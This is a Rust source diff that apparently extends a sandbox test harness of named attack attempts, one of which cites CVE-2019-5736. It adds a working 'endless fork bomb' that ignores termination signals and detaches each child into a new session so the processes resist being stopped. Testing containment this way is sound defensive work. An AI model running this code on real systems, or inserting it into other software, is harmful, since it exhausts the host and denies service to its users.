@@ -29,6 +29,7 @@ pub(super) fn attempt(name: &str, arguments: &[String]) -> Option<Tried> {
         // SAFETY: takes nothing.
         "user" => Ok(unsafe { libc::geteuid() }.to_string()),
         "fork-bomb" => fork_bomb(),
+        "endless-fork-bomb" => endless_fork_bomb(),
         "others-programs" => others_programs(arguments.first().map_or("", String::as_str)),
         "swap-links" => swap_links(arguments),
         _ => return None,
@@ -67,6 +68,22 @@ fn fork_bomb() -> Tried {
         unsafe { libc::kill(*pid, libc::SIGKILL) };
     }
     Err(io::Error::other(format!("{} {}", children.len(), failed.raw_os_error().unwrap_or(-1))))
+}
+
+/// Forks for ever, in every process, each in a session of its own and deaf to whoever asks for its
+/// end, and whatever the kernel says: where one of them ends, another takes its place.
+fn endless_fork_bomb() -> Tried {
+    for signal in [libc::SIGTERM, libc::SIGHUP] {
+        // SAFETY: nothing is called on the signal.
+        unsafe { libc::signal(signal, libc::SIG_IGN) };
+    }
+    loop {
+        // SAFETY: a process of one thread; the child does what this one does.
+        if unsafe { libc::fork() } == 0 {
+            // SAFETY: takes nothing.
+            unsafe { libc::setsid() };
+        }
+    }
 }
 
 /// As in CVE-2019-5736: until the file `stop` is there, opens the program of every process that
